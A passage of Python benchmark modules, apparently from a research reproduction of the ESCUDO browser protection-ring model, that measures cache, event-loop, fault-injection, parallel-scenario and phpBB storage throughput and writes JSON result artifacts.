    mediation = payload["warm_mediation"]
    scenarios = payload["scenarios"]
    lines = [
        "compile caches (cold vs warm):",
        f"  page compile: {page['cold_loads_per_second']:,.0f} -> "
        f"{page['warm_loads_per_second']:,.0f} loads/s "
        f"({page['speedup']:.2f}x, template hit rate {page['template_hit_rate'] * 100.0:.1f}%)",
        f"  script front end: {script['cold_runs_per_second']:,.0f} -> "
        f"{script['warm_runs_per_second']:,.0f} runs/s ({script['speedup']:.2f}x)",
        f"  script execution: {vm['walker_scripts_per_second']:,.0f} walker -> "
        f"{vm['vm_scripts_per_second']:,.0f} VM scripts/s ({vm['speedup']:.2f}x, "
        f"IC hit rate {vm['ic_hit_rate'] * 100.0:.1f}%)",
        f"  warm-start mediation: {mediation['cold_mediations_per_second']:,.0f} -> "
        f"{mediation['warm_mediations_per_second']:,.0f} mediations/s "
        f"({mediation['speedup']:.2f}x over fresh per-page caches)",
        f"  scenarios (1 worker): {scenarios['cold_scenarios_per_second']:,.1f} cold -> "
        f"{scenarios['warm_scenarios_per_second']:,.1f} first warm pass -> "
        f"{scenarios['steady_scenarios_per_second']:,.1f} steady scenarios/s "
        f"({scenarios['speedup']:.2f}x / {scenarios['steady_speedup']:.2f}x, "
        f"decision-cache hit rate {scenarios['warm_cache_hit_rate'] * 100.0:.1f}%)",
        f"  verdict parity with caches enabled: {payload['verdict_parity']}",
    ]
    if "speedup_vs_seed" in payload:
        lines.append(
            f"  vs pinned PR-3 baseline: {payload['scenarios_per_second_seed']:,.1f} -> "
            f"{payload['scenarios_per_second']:,.1f} scenarios/s "
            f"({payload['speedup_vs_seed']:.2f}x)"
        )
    return "\n".join(lines)


def write_compile_cache_report(payload: dict, path: Path | str) -> Path:
    """Serialise the payload as the JSON artifact at ``path``."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
