"""Event-loop throughput workload.

Three measurements, all on the deterministic virtual-clock loop:

* **Raw scheduling** -- how many trivial macrotasks per second one loop can
  enqueue and drain (``tasks_per_second``).  This is the floor cost every
  deferred behaviour pays.
* **Mediated deferred load** -- a loaded page schedules thousands of timer
  callbacks that each perform a mediated access, the loop drains, and the
  payload reports ``mediations_per_second`` together with the decision
  cache's hit rate.  Repeated timer callbacks by the same principal are
  exactly the workload the cache was built for, so the hit rate here is the
  cache's win on task-phase mediation.
* **Deferred XHR completions** -- async ``send()``s queued and drained
  through the loop against the in-process network
  (``xhr_completions_per_second``).

The payload lands in ``benchmarks/results/BENCH_event_loop.json`` and is
uploaded by the CI ``event-loop`` job.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

from repro.browser.browser import Browser
from repro.browser.event_loop import EventLoop
from repro.core.decision import Operation
from repro.http.messages import HttpRequest, HttpResponse
from repro.http.network import Network

#: Artifact name uploaded by the CI ``event-loop`` job.
EVENT_LOOP_RESULTS_NAME = "BENCH_event_loop.json"

ORIGIN = "http://bench.example.com"

#: A small ESCUDO page with ring-labelled scopes for the mediation workload.
PAGE_BODY = (
    "<!DOCTYPE html><html><head><title>bench</title></head><body>"
    '<div ring="1" r="1" w="1" x="1"><p id="chrome">chrome</p></div>'
    '<div ring="3" r="3" w="3" x="3"><p id="content">content</p></div>'
    "</body></html>"
)


class _BenchServer:
    """Serves the bench page at ``/`` and a constant body everywhere else."""

    def handle_request(self, request: HttpRequest) -> HttpResponse:
        if request.url.path == "/":
            return HttpResponse(status=200, body=PAGE_BODY)
        return HttpResponse(status=200, body="ok")


def _drain_tasks(count: int) -> dict:
    """Raw loop throughput: ``count`` no-op macrotasks, enqueue + drain."""
    loop = EventLoop()
    sink: list[int] = []
    start = time.perf_counter()
    for index in range(count):
        loop.post(lambda index=index: sink.append(index))
    executed = loop.drain()
    elapsed = time.perf_counter() - start
    assert executed == count and len(sink) == count
    return {
        "tasks": count,
        "duration_s": elapsed,
        "tasks_per_second": count / elapsed if elapsed > 0 else 0.0,
    }


def _mediated_timers(count: int) -> dict:
    """``count`` timer callbacks each performing one mediated DOM access."""
    network = Network()
    network.register(ORIGIN, _BenchServer())
    browser = Browser(network, fetch_subresources=False)
    loaded = browser.load(f"{ORIGIN}/")
    page = loaded.page
    loop = page.event_loop
    monitor = page.monitor

    chrome = page.document.get_element_by_id("chrome")
    content = page.document.get_element_by_id("content")
    principal = page.principal_context_for(content)
    targets = [
        page.principal_context_for(chrome),
        page.principal_context_for(content),
    ]

    before = monitor.stats.total
    start = time.perf_counter()
    for index in range(count):
        target = targets[index % len(targets)]
        loop.set_timeout(
            lambda target=target: monitor.allows(principal, target, Operation.READ),
            float(index % 7),
        )
    loop.drain()
    elapsed = time.perf_counter() - start
    mediations = monitor.stats.total - before
    info = monitor.cache_info()
    return {
        "timers": count,
        "mediations": mediations,
        "duration_s": elapsed,
        "mediations_per_second": mediations / elapsed if elapsed > 0 else 0.0,
        "cache_hit_rate": info.hit_rate if info is not None else 0.0,
    }


def _deferred_xhrs(count: int) -> dict:
    """``count`` async XHR completions queued and drained through the loop."""
    network = Network()
    network.register(ORIGIN, _BenchServer())
    browser = Browser(network, fetch_subresources=False)
    loaded = browser.load(f"{ORIGIN}/")
    source = (
        "var xhr = new XMLHttpRequest();"
        "xhr.open('GET', '/api/ping', true);"
        "xhr.send();"
    )
    start = time.perf_counter()
    for _ in range(count):
        browser.run_script(loaded, source, ring=0, drain=False)
    completed = browser.drain(loaded)
    elapsed = time.perf_counter() - start
    return {
        "xhrs": count,
        "completions": completed,
        "duration_s": elapsed,
        "xhr_completions_per_second": completed / elapsed if elapsed > 0 else 0.0,
    }


def measure_event_loop(
    *,
    task_count: int = 20_000,
    timer_count: int = 5_000,
    xhr_count: int = 300,
) -> dict:
    """Run the three workloads and build the artifact payload."""
    scheduling = _drain_tasks(task_count)
    mediated = _mediated_timers(timer_count)
    xhrs = _deferred_xhrs(xhr_count)
    return {
        "scheduling": scheduling,
        "mediated_timers": mediated,
        "deferred_xhrs": xhrs,
        "tasks_per_second": scheduling["tasks_per_second"],
        "mediations_per_second": mediated["mediations_per_second"],
        "cache_hit_rate": mediated["cache_hit_rate"],
    }


def format_event_loop_report(payload: dict) -> str:
    """Human-readable summary of the event-loop workloads."""
    scheduling = payload["scheduling"]
    mediated = payload["mediated_timers"]
    xhrs = payload["deferred_xhrs"]
    return "\n".join(
        [
            "event loop throughput:",
            f"  scheduling: {scheduling['tasks_per_second']:,.0f} tasks/s "
            f"({scheduling['tasks']} no-op macrotasks)",
            f"  mediated timers: {mediated['mediations_per_second']:,.0f} mediations/s "
            f"over {mediated['timers']} deferred callbacks | "
            f"cache hit rate {mediated['cache_hit_rate'] * 100.0:.1f}%",
            f"  deferred XHRs: {xhrs['xhr_completions_per_second']:,.0f} completions/s "
            f"({xhrs['completions']} queued sends drained)",
        ]
    )


def write_event_loop_report(payload: dict, path: Path | str) -> Path:
    """Serialise the payload as the JSON artifact at ``path``."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
