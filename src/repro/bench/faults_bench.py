"""Fault-plane workload: resilience cost and the disabled-plane overhead gate.

Three measurements land in ``benchmarks/results/BENCH_faults.json``:

* **throughput vs fault rate** -- the end-to-end scenario suite at a sweep
  of per-site injection rates (retries armed), with the plane's retry and
  recovery telemetry alongside each point;
* **recovery telemetry** -- aggregated over the chaos matrix: injections by
  site and kind, retries by site, suppressed duplicate completions, and the
  cumulative virtual-clock backoff latency the retries paid;
* **disabled-plane overhead** -- an *armed-but-empty* plan versus no plane
  at all, best-of-N wall clock.  The plane is designed to cost nothing when
  idle (zero-rate sites short-circuit before touching any counter); the
  artifact gates that claim at ``OVERHEAD_GATE_PERCENT``.

:func:`write_faults_report` is the artifact's single producer -- the
``python -m repro.faults`` CLI and ``benchmarks/bench_faults.py`` both
write through here.
"""

from __future__ import annotations

import json
from pathlib import Path

from repro.faults.plan import FaultConfig
from repro.scenarios.engine import run_suite

#: Default artifact location (relative to the repository root).
FAULTS_RESULTS_NAME = "BENCH_faults.json"

#: The artifact's schema version.
FAULTS_SCHEMA = 1

#: Maximum tolerated slowdown of a suite with the plane armed-but-empty
#: relative to no plane at all, in percent.
OVERHEAD_GATE_PERCENT = 5.0

#: Injection rates swept by the throughput curve.
DEFAULT_RATE_SWEEP = (0.0, 0.05, 0.15, 0.3)


def measure_throughput_vs_rate(
    *,
    seed: int | str = 42,
    count: int = 25,
    rates=DEFAULT_RATE_SWEEP,
    storage: str = "dict",
) -> list[dict]:
    """One suite run per injection rate, retries armed, escudo-only matrix."""
    points: list[dict] = []
    for rate in rates:
        faults = (
            FaultConfig.uniform(seed=f"{seed}:bench", rate=rate)
            if rate > 0.0
            else FaultConfig.empty(seed=f"{seed}:bench")
        )
        suite = run_suite(
            seed=seed, count=count, models=("escudo",), storage=storage, faults=faults
        )
        stats = suite.faults or {}
        points.append(
            {
                "rate": rate,
                "ok": suite.ok,
                "scenarios_per_second": suite.scenarios_per_second,
                "duration_s": suite.duration_s,
                "injected": sum(stats.get("injected", {}).values()),
                "retries": sum(stats.get("retries", {}).values()),
                "recoveries": stats.get("recoveries", 0),
                "recovery_latency_ms": stats.get("recovery_latency_ms", 0.0),
            }
        )
    return points


def measure_disabled_overhead(
    *,
    seed: int | str = 42,
    count: int = 40,
    repeats: int = 9,
) -> dict:
    """Best-of-``repeats`` suite wall clock: no plane vs armed-but-empty.

    Best-of minima are the standard noise filter for same-process A/B wall
    clocks (the OS can only ever *add* time), and the A and B runs are
    interleaved so slow machine drift hits both sides alike.  The
    percentage is what the ``< OVERHEAD_GATE_PERCENT`` CI gate consumes.
    """
    baseline_times: list[float] = []
    armed_times: list[float] = []
    for _ in range(repeats):
        baseline_times.append(run_suite(seed=seed, count=count).duration_s)
        armed_times.append(
            run_suite(seed=seed, count=count, faults=FaultConfig.empty()).duration_s
        )
    baseline = min(baseline_times)
    armed = min(armed_times)
    overhead_percent = (armed / baseline - 1.0) * 100.0 if baseline > 0 else 0.0
    return {
        "baseline_s": baseline,
        "armed_empty_s": armed,
        "overhead_percent": overhead_percent,
        "gate_percent": OVERHEAD_GATE_PERCENT,
        "ok": overhead_percent < OVERHEAD_GATE_PERCENT,
    }


def build_faults_report(
    *,
    chaos: dict,
    passivity: dict,
    throughput: list[dict],
    overhead: dict,
) -> dict:
    """Assemble the full ``BENCH_faults.json`` payload."""
    return {
        "schema": FAULTS_SCHEMA,
        "ok": bool(
            chaos.get("ok") and passivity.get("ok") and overhead.get("ok")
        ),
        "chaos": chaos,
        "passivity": passivity,
        "throughput_vs_rate": throughput,
        "overhead": overhead,
    }


def write_faults_report(payload: dict, path: Path | str) -> Path:
    """Serialise the fault-plane artifact at ``path`` (the single producer)."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(
        json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )
    return target
