"""Sharded scenario-execution throughput workload.

Measures the same seeded scenario range serially and sharded over 1 / 2 / 4
worker processes, verifying on the way that every sharded run's merged
report is byte-identical to the serial baseline (the parity oracle doubles
as a correctness certificate for the numbers being compared).  The payload
lands in ``benchmarks/results/BENCH_parallel_scenarios.json``:

* ``scenarios_per_second`` per worker count,
* ``speedup_vs_serial`` (relative to the plain serial engine),
* ``per_worker_cache_hit_rate`` (each shard's private decision caches),
* ``parity_with_serial`` (merged report equality),

plus the host's CPU count, since speedup is meaningless without it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from repro.scenarios.engine import run_suite
from repro.scenarios.parallel import run_suite_parallel

#: Artifact name uploaded by the CI ``parallel-scenarios`` job.
PARALLEL_RESULTS_NAME = "BENCH_parallel_scenarios.json"

#: Worker counts the workload sweeps.
DEFAULT_WORKER_COUNTS = (1, 2, 4)


def measure_parallel_scenarios(
    *,
    seed: int | str = 42,
    count: int = 40,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
    worker_counts=DEFAULT_WORKER_COUNTS,
) -> dict:
    """Sweep the sharded executor over ``worker_counts`` and build the payload."""
    serial = run_suite(seed=seed, count=count, models=models, attack_ratio=attack_ratio)
    serial_parity = serial.parity_dict()

    rows = []
    for workers in worker_counts:
        suite = run_suite_parallel(
            seed=seed,
            count=count,
            models=models,
            attack_ratio=attack_ratio,
            workers=workers,
            persist_failures=False,
        )
        rows.append(
            {
                "workers": workers,
                "ok": suite.ok,
                "parity_with_serial": suite.parity_dict() == serial_parity,
                "duration_s": suite.duration_s,
                "scenarios_per_second": suite.scenarios_per_second,
                "speedup_vs_serial": (
                    suite.scenarios_per_second / serial.scenarios_per_second
                    if serial.scenarios_per_second > 0
                    else 0.0
                ),
                "per_worker_cache_hit_rate": [
                    stat["cache_hit_rate"] for stat in suite.shard_stats
                ],
                "per_worker_scenarios_per_second": [
                    stat["scenarios_per_second"] for stat in suite.shard_stats
                ],
            }
        )

    return {
        "seed": serial.seed,
        "count": count,
        "models": list(serial.models),
        "attack_ratio": attack_ratio,
        "cpu_count": os.cpu_count(),
        "serial": {
            "ok": serial.ok,
            "duration_s": serial.duration_s,
            "scenarios_per_second": serial.scenarios_per_second,
            "cache_hit_rate": serial.cache_hit_rate,
        },
        "workers": rows,
    }


def format_parallel_report(payload: dict) -> str:
    """Human-readable summary of the sweep."""
    lines = [
        f"parallel scenario execution: seed={payload['seed']} count={payload['count']} "
        f"matrix={','.join(payload['models'])} (host: {payload['cpu_count']} cpu)",
        f"  serial baseline: {payload['serial']['scenarios_per_second']:,.1f} scenarios/s",
    ]
    for row in payload["workers"]:
        hit_rates = ", ".join(f"{rate * 100.0:.1f}%" for rate in row["per_worker_cache_hit_rate"])
        lines.append(
            f"  workers={row['workers']}: {row['scenarios_per_second']:,.1f} scenarios/s "
            f"({row['speedup_vs_serial']:.2f}x serial) | "
            f"parity={'ok' if row['parity_with_serial'] else 'BROKEN'} | "
            f"per-worker cache hit rate: {hit_rates}"
        )
    return "\n".join(lines)


def write_parallel_report(payload: dict, path: Path | str) -> Path:
    """Serialise the sweep payload as the JSON artifact at ``path``."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
