"""Work-stealing sharded scenario-execution throughput workload.

Measures the same seeded scenario range serially and sharded over 1 / 2 / 4
worker processes, verifying on the way that every sharded run's merged
report is byte-identical to the serial baseline (the parity oracle doubles
as a correctness certificate for the numbers being compared).  The payload
lands in ``benchmarks/results/BENCH_parallel_scenarios.json``:

* ``scenarios_per_second`` per worker count plus ``speedup_vs_serial``,
* ``per_worker_chunks_stolen`` -- how many queue pulls each worker won
  (the work-stealing balance evidence),
* ``per_worker_cache_hit_rate`` (each shard's decision-cache traffic),
* ``scheduling_efficiency`` -- busy worker-seconds over available
  worker-seconds, ``sum(shard duration) / (workers * wall clock)``.  A
  straggler under static sharding leaves siblings idle at the tail and
  drags this down; the steal queue keeps it near 1.0 on any hardware
  (unlike raw speedup, it does not depend on physical core count),
* ``parity_with_serial`` (merged report equality),
* a ``cold_start`` section comparing warm-shipped workers against the
  old per-worker-warm-up baseline: wall clock plus each side's *compile
  misses* (template + AST + bytecode cache misses summed over workers --
  a deterministic measure of cold-start work, immune to timing noise),
* an ``efficiency`` section: a larger dedicated run backing the
  perf-smoke floor of >= 0.8 scheduling efficiency at 4 workers,

plus the host's CPU count, since raw speedup is meaningless without it.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from repro.scenarios.engine import run_suite
from repro.scenarios.parallel import run_suite_parallel

#: Artifact name uploaded by the CI ``parallel-scenarios`` job.
PARALLEL_RESULTS_NAME = "BENCH_parallel_scenarios.json"

#: Worker counts the workload sweeps.
DEFAULT_WORKER_COUNTS = (1, 2, 4)

#: Perf-smoke floor: busy worker-seconds / available worker-seconds at the
#: dedicated efficiency run's worker count.
SCHEDULING_EFFICIENCY_FLOOR = 0.8

#: Scenario count of the dedicated efficiency run -- large enough that the
#: pool's fixed startup cost (fork + warm-state restore) is amortised the
#: way a production-size run would amortise it.
EFFICIENCY_COUNT = 160

#: Worker count the efficiency floor is asserted at.
EFFICIENCY_WORKERS = 4


def _compile_misses(suite) -> int:
    """Total compile-tier misses (templates + ASTs + bytecode) over all shards.

    The deterministic cold-start metric: a warm-shipped worker finds the
    parent's entries and misses (almost) nothing; a cold worker re-parses
    every template and script for itself, once per worker.
    """
    total = 0
    for stat in suite.shard_stats:
        layers = stat.get("compile_cache") or {}
        for layer in ("templates", "scripts", "code"):
            total += (layers.get(layer) or {}).get("misses", 0)
    return total


def scheduling_efficiency(suite) -> float:
    """Busy worker-seconds over available worker-seconds for one sharded run."""
    if suite.duration_s <= 0 or suite.workers <= 0:
        return 0.0
    busy = sum(stat["duration_s"] for stat in suite.shard_stats)
    return min(1.0, busy / (suite.workers * suite.duration_s))


def measure_parallel_scenarios(
    *,
    seed: int | str = 42,
    count: int = 40,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
    worker_counts=DEFAULT_WORKER_COUNTS,
    efficiency_count: int = EFFICIENCY_COUNT,
) -> dict:
    """Sweep the work-stealing executor over ``worker_counts``, build the payload."""
    serial = run_suite(seed=seed, count=count, models=models, attack_ratio=attack_ratio)
    serial_parity = serial.parity_dict()

    rows = []
    for workers in worker_counts:
        suite = run_suite_parallel(
            seed=seed,
            count=count,
            models=models,
            attack_ratio=attack_ratio,
            workers=workers,
            persist_failures=False,
        )
        rows.append(
            {
                "workers": workers,
                "effective_workers": suite.workers,
                "ok": suite.ok,
                "parity_with_serial": suite.parity_dict() == serial_parity,
                "duration_s": suite.duration_s,
                "scenarios_per_second": suite.scenarios_per_second,
                "speedup_vs_serial": (
                    suite.scenarios_per_second / serial.scenarios_per_second
                    if serial.scenarios_per_second > 0
                    else 0.0
                ),
                "scheduling_efficiency": scheduling_efficiency(suite),
                "steal_chunk": suite.steal_chunk,
                "warm_ship": suite.warm_ship,
                "per_worker_chunks_stolen": [
                    stat["chunks_stolen"] for stat in suite.shard_stats
                ],
                "per_worker_scenarios": [stat["scenarios"] for stat in suite.shard_stats],
                "per_worker_cache_hit_rate": [
                    stat["cache_hit_rate"] for stat in suite.shard_stats
                ],
                "per_worker_scenarios_per_second": [
                    stat["scenarios_per_second"] for stat in suite.shard_stats
                ],
            }
        )

    # Cold-start amortization: warm-shipped workers vs the old per-worker
    # warm-up, at the sweep's widest worker count.
    cold_workers = max(worker_counts)
    warm = run_suite_parallel(
        seed=seed,
        count=count,
        models=models,
        attack_ratio=attack_ratio,
        workers=cold_workers,
        persist_failures=False,
        warm_ship=True,
    )
    cold = run_suite_parallel(
        seed=seed,
        count=count,
        models=models,
        attack_ratio=attack_ratio,
        workers=cold_workers,
        persist_failures=False,
        warm_ship=False,
    )
    cold_start = {
        "workers": cold_workers,
        "parity": warm.parity_dict() == cold.parity_dict(),
        "warm_ship_duration_s": warm.duration_s,
        "cold_worker_duration_s": cold.duration_s,
        "warm_ship_scenarios_per_second": warm.scenarios_per_second,
        "cold_worker_scenarios_per_second": cold.scenarios_per_second,
        "warm_ship_compile_misses": _compile_misses(warm),
        "cold_worker_compile_misses": _compile_misses(cold),
    }

    # Dedicated efficiency run: big enough to amortise pool startup, floor
    # asserted by the bench test and the CI gate.
    eff = run_suite_parallel(
        seed=seed,
        count=efficiency_count,
        models=models,
        attack_ratio=attack_ratio,
        workers=EFFICIENCY_WORKERS,
        persist_failures=False,
    )
    efficiency = {
        "workers": EFFICIENCY_WORKERS,
        "effective_workers": eff.workers,
        "count": efficiency_count,
        "ok": eff.ok,
        "duration_s": eff.duration_s,
        "scenarios_per_second": eff.scenarios_per_second,
        "scheduling_efficiency": scheduling_efficiency(eff),
        "floor": SCHEDULING_EFFICIENCY_FLOOR,
        "per_worker_chunks_stolen": [stat["chunks_stolen"] for stat in eff.shard_stats],
    }

    return {
        "seed": serial.seed,
        "count": count,
        "models": list(serial.models),
        "attack_ratio": attack_ratio,
        "cpu_count": os.cpu_count(),
        "serial": {
            "ok": serial.ok,
            "duration_s": serial.duration_s,
            "scenarios_per_second": serial.scenarios_per_second,
            "cache_hit_rate": serial.cache_hit_rate,
        },
        "workers": rows,
        "cold_start": cold_start,
        "efficiency": efficiency,
    }


def format_parallel_report(payload: dict) -> str:
    """Human-readable summary of the sweep."""
    lines = [
        f"parallel scenario execution: seed={payload['seed']} count={payload['count']} "
        f"matrix={','.join(payload['models'])} (host: {payload['cpu_count']} cpu)",
        f"  serial baseline: {payload['serial']['scenarios_per_second']:,.1f} scenarios/s",
    ]
    for row in payload["workers"]:
        hit_rates = ", ".join(f"{rate * 100.0:.1f}%" for rate in row["per_worker_cache_hit_rate"])
        steals = "/".join(str(n) for n in row["per_worker_chunks_stolen"])
        lines.append(
            f"  workers={row['workers']}: {row['scenarios_per_second']:,.1f} scenarios/s "
            f"({row['speedup_vs_serial']:.2f}x serial, "
            f"sched eff {row['scheduling_efficiency'] * 100.0:.0f}%) | "
            f"parity={'ok' if row['parity_with_serial'] else 'BROKEN'} | "
            f"chunks stolen: {steals} | per-worker cache hit rate: {hit_rates}"
        )
    cold = payload.get("cold_start")
    if cold:
        lines.append(
            f"  cold start @ {cold['workers']} workers: warm-ship "
            f"{cold['warm_ship_compile_misses']} compile misses / "
            f"{cold['warm_ship_duration_s']:.2f}s vs cold "
            f"{cold['cold_worker_compile_misses']} misses / "
            f"{cold['cold_worker_duration_s']:.2f}s | "
            f"parity={'ok' if cold['parity'] else 'BROKEN'}"
        )
    eff = payload.get("efficiency")
    if eff:
        lines.append(
            f"  efficiency run ({eff['count']} scenarios @ {eff['workers']} workers): "
            f"{eff['scenarios_per_second']:,.1f} scenarios/s, scheduling efficiency "
            f"{eff['scheduling_efficiency'] * 100.0:.0f}% (floor {eff['floor'] * 100.0:.0f}%)"
        )
    return "\n".join(lines)


def write_parallel_report(payload: dict, path: Path | str) -> Path:
    """Serialise the sweep payload as the JSON artifact at ``path``."""
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(payload, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
