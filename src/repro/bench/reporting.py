"""Plain-text reporting for the benchmark harness.

Every benchmark prints the table or series it regenerates in a format close
to the paper's, so ``pytest benchmarks/ --benchmark-only`` output doubles as
the data source for ``EXPERIMENTS.md``.
"""

from __future__ import annotations

from typing import Iterable, Sequence

from .timing import MediationComparison, OverheadRow, average_overhead


def format_table(headers: Sequence[str], rows: Iterable[Sequence[object]], *, title: str = "") -> str:
    """Render an ASCII table with aligned columns."""
    string_rows = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in string_rows:
        for index, cell in enumerate(row):
            if index < len(widths):
                widths[index] = max(widths[index], len(cell))
    lines = []
    if title:
        lines.append(title)
    divider = "-+-".join("-" * w for w in widths)
    lines.append(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append(divider)
    for row in string_rows:
        lines.append(" | ".join(cell.ljust(w) for cell, w in zip(row, widths)))
    return "\n".join(lines)


def format_figure4(rows: list[OverheadRow]) -> str:
    """The Figure-4 style table: per-scenario times and relative overhead.

    The time columns show the per-variant *minimum* (best-of-N), which is
    also what the overhead percentage is computed from -- on a shared
    machine the mean is dominated by scheduler noise, while the minimum
    estimates the work each pipeline actually performs.
    """
    table_rows = [
        (
            row.scenario,
            row.elements,
            row.ac_tags,
            f"{row.without_escudo.minimum_ms:.3f}",
            f"{row.with_escudo.minimum_ms:.3f}",
            f"{row.overhead_percent:+.2f}%",
            f"{row.mediations_per_second:,.0f}",
            f"{row.cache_hit_rate * 100.0:.1f}%",
        )
        for row in rows
    ]
    repetitions = rows[0].without_escudo.repetitions if rows else 0
    table = format_table(
        ("scenario", "elements", "AC tags",
         f"without ESCUDO (ms, best of {repetitions})",
         f"with ESCUDO (ms, best of {repetitions})",
         "overhead", "mediations/s", "cache hits"),
        table_rows,
        title="Figure 4: parse + render time per scenario",
    )
    return table + f"\naverage overhead: {average_overhead(rows):+.2f}% (paper: ~5.09%)"


def format_mediation_report(comparison: MediationComparison) -> str:
    """The mediation-pipeline summary: cached vs. uncached monitor."""
    rows = [
        (
            sample.variant,
            sample.total,
            f"{sample.duration_s * 1000.0:.1f}",
            f"{sample.mediations_per_second:,.0f}",
            sample.allowed,
            sample.denied,
            f"{sample.cache_hit_rate * 100.0:.1f}%",
        )
        for sample in (comparison.uncached, comparison.cached)
    ]
    table = format_table(
        ("monitor", "mediations", "time (ms)", "mediations/s", "allowed", "denied", "cache hits"),
        rows,
        title=(
            f"Mediation throughput ({comparison.spec.name}: "
            f"{comparison.spec.total_requests} authorizations, "
            f"{comparison.spec.distinct_keys} distinct keys)"
        ),
    )
    parity = "yes" if comparison.verdicts_identical else "NO -- CACHE BUG"
    return (
        table
        + f"\nwarm-cache speedup: {comparison.speedup:.2f}x"
        + f"\nverdicts identical with/without cache: {parity}"
    )


def format_defense_matrix(results_by_model: dict[str, list]) -> str:
    """The Section 6.4 defence-effectiveness summary."""
    rows = []
    names = [r.attack_name for r in next(iter(results_by_model.values()))]
    per_model = {
        model: {r.attack_name: r for r in results}
        for model, results in results_by_model.items()
    }
    for name in names:
        row = [name]
        for model in results_by_model:
            result = per_model[model][name]
            row.append("SUCCEEDED" if result.succeeded else "neutralized")
        rows.append(row)
    headers = ["attack"] + [f"under {model}" for model in results_by_model]
    return format_table(headers, rows, title="Defense effectiveness (Section 6.4)")


def format_policy_table(title: str, columns: Sequence[str], ring_row: Sequence[object],
                        acl_rows: dict[str, Sequence[object]]) -> str:
    """Render a Table-3/Table-5 style configuration table."""
    rows = [["Ring"] + list(ring_row)]
    for operation, limits in acl_rows.items():
        rows.append([f"{operation} access"] + [f"<= {limit}" for limit in limits])
    return format_table(["configuration"] + list(columns), rows, title=title)
