"""Scenario-engine throughput workload.

Where the mediation benchmark isolates the reference monitor, this workload
measures the whole stack end to end: N seeded multi-user scenarios, each
executed under the full policy matrix (every page load runs the parse →
label → render → script pipeline and every access is mediated).  The
headline figures are **scenarios/second** and **mediations/second**, plus
the aggregate decision-cache hit rate; they land in
``benchmarks/results/BENCH_scenarios.json`` so CI can track regressions.
"""

from __future__ import annotations

import json
from pathlib import Path

from repro.scenarios.engine import SuiteResult
from repro.scenarios.parallel import run_suite_parallel

#: Default artifact location (relative to the repository root).
SCENARIO_RESULTS_NAME = "BENCH_scenarios.json"


def measure_scenarios(
    *,
    seed: int | str = 42,
    count: int = 25,
    models=("escudo", "sop", "none"),
    attack_ratio: float = 0.25,
) -> SuiteResult:
    """Run the scenario workload and return the suite result.

    Routed through the sharded executor at one worker (a single in-process
    shard), so this workload and the ``python -m repro.scenarios`` CLI emit
    the identical artifact schema -- worker statistics included.
    """
    return run_suite_parallel(
        seed=seed,
        count=count,
        models=models,
        attack_ratio=attack_ratio,
        workers=1,
        persist_failures=False,
    )


def write_scenario_report(suite: SuiteResult, path: Path | str) -> Path:
    """Serialise a suite result as the JSON artifact at ``path``.

    The single producer of ``BENCH_scenarios.json``'s schema -- both the
    benchmark and the ``python -m repro.scenarios`` CLI write through here.
    """
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(json.dumps(suite.as_dict(), indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return target
