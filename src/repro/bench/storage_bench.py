"""Storage-tier workload: bulk seeding and page loads at forum scale.

The ROADMAP's realistic-scale target ("millions of users") was unmeasurable
while application state lived in per-test Python dicts.  This workload
seeds a phpBB instance with a configurable number of users, topics and
posts through the storage interface's batched-insert path, then measures
what the paper's experiments care about at that scale:

* **bulk-seed throughput** (rows/second) per backend;
* **page-load latency** (p50/p99/mean milliseconds) for the index and
  topic pages over the seeded board -- the first request after seeding pays
  the content-view materialisation, so it is reported separately as the
  warm-up cost;
* **scenario throughput** (scenarios/second) of the differential engine on
  each backend, plus the digest-parity bit the storage tier must preserve.

The JSON artifact lands in ``benchmarks/results/BENCH_storage.json``; the
CI ``storage`` job regenerates a scaled-down smoke version and uploads it.
"""

from __future__ import annotations

import json
import math
import os
import tempfile
import time
from pathlib import Path

from repro.scenarios.engine import run_suite

#: Default artifact location (relative to the repository root).
STORAGE_RESULTS_NAME = "BENCH_storage.json"

#: Rows per ``insert_many`` batch during bulk seeding.
BATCH = 50_000

#: Explicit id floor for bulk-seeded topics, above anything the
#: application's own seed content allocates.
TOPIC_ID_BASE = 1_000


def _percentile(sorted_ms: list[float], q: float) -> float:
    index = min(len(sorted_ms) - 1, max(0, math.ceil(q * len(sorted_ms)) - 1))
    return sorted_ms[index]


def _batched(rows: list[dict]):
    for start in range(0, len(rows), BATCH):
        yield rows[start : start + BATCH]


def _bulk_seed(app, *, users: int, topics: int, posts: int) -> dict:
    """Seed the board through the batched-insert path; return throughput."""
    start = time.perf_counter()
    for batch in _batched([{"username": f"user{n}"} for n in range(users)]):
        app.storage.insert_many("phpbb_users", batch)
    topic_rows = [
        {"topic_id": TOPIC_ID_BASE + n, "topic_title": f"Load-test topic {n}",
         "topic_poster": f"user{n % max(1, users)}"}
        for n in range(topics)
    ]
    for batch in _batched(topic_rows):
        app.storage.insert_many("phpbb_topics", batch)
    post_rows = [
        {"topic_id": TOPIC_ID_BASE + (n % max(1, topics)),
         "post_username": f"user{n % max(1, users)}",
         "post_subject": f"Re: load-test {n}",
         "post_text": f"benchmark post body {n}"}
        for n in range(posts)
    ]
    for batch in _batched(post_rows):
        app.storage.insert_many("phpbb_posts", batch)
    seconds = time.perf_counter() - start
    rows = users + topics + posts
    return {
        "users": users,
        "topics": topics,
        "posts": posts,
        "rows": rows,
        "seconds": round(seconds, 4),
